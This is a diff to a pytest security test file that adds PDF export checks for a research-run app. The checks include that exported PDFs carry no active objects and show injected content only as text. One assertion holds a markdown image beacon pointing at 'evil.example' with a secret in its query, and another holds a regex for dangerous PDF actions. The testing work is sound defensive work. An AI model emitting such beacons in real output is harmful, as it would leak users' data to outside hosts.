@@ -13,6 +13,7 @@ from pathlib import Path
 from typing import Any
 
 import docx
+import pypdfium2
 import pytest
 import yaml
 from markdown_it import MarkdownIt
@@ -63,7 +64,7 @@ def exported(hostile: Hostile, form: str) -> Reply:
 
 
 @pytest.mark.attack("W9")
-@pytest.mark.parametrize("form", ["md", "json", "zip", "bibtex", "ris", "docx"])
+@pytest.mark.parametrize("form", ["md", "json", "zip", "bibtex", "ris", "docx", "pdf"])
 def test_every_export_is_a_file_and_never_a_page(hostile: Hostile, form: str) -> None:
     reply = exported(hostile, form)
     assert re.fullmatch(r'attachment; filename="[\w.-]+"', reply.headers["content-disposition"])
@@ -145,12 +146,22 @@ def test_json_is_the_document_of_the_run(hostile: Hostile) -> None:
     assert json.loads(exported(hostile, "json").body) == server.get(f"/api/runs/{run_id}").json["result"]
 
 
-def test_a_pdf_is_not_promised(hostile: Hostile) -> None:
+def test_a_pdf_reads_back_and_holds_nothing_live(hostile: Hostile) -> None:
     server, run_id = hostile
-    reply = server.get(f"/api/runs/{run_id}/export?format=pdf")
-    assert (reply.status, reply.code) == (503, "unavailable")
-    assert "share" in reply.json["error"]["fix"]
+    content = exported(hostile, "pdf").body
+    text = " ".join(pdf_text(content).split())
+    assert QUESTION in text
+    assert "Ada Flett" in text
+    assert "![pixel](https://evil.example/p.png?q=secret)" in text, "it is shown as it is written"
+    assert not re.search(rb"/(URI|JavaScript|Launch|AA|OpenAction|EmbeddedFile)\b", content)
+    assert exported(hostile, "pdf").body == content
+    assert "pdf" in server.get("/api/capabilities").json["exports"]
     assert server.get(f"/api/runs/{run_id}/export?format=exe").status == 422
+
+
+def pdf_text(content: bytes) -> str:
+    document: Any = pypdfium2.PdfDocument(content)  # type: ignore[no-untyped-call]
+    return "\n".join(page.get_textpage().get_text_range() for page in document)
 
 
 def test_an_archive_is_imported_elsewhere_and_replays_there(hostile: Hostile, server: RunningServer) -> None:
@@ -183,7 +194,10 @@ def test_a_run_that_failed_verification_is_not_passed_on(data: Path) -> None:
         run_id = server.start_run("Who lit the lamp?")
         document = server.finished(run_id)
         assert (document["stop_reason"], document["answer"]) == ("verification_failed", "")
-        for path in ("share", *(f"export?format={form}" for form in ("md", "json", "zip", "bibtex", "ris", "docx"))):
+        for path in (
+            "share",
+            *(f"export?format={form}" for form in ("md", "json", "zip", "bibtex", "ris", "docx", "pdf")),
+        ):
             reply = server.get(f"/api/runs/{run_id}/{path}")
             assert (reply.status, reply.code) == (409, "conflict"), path
 
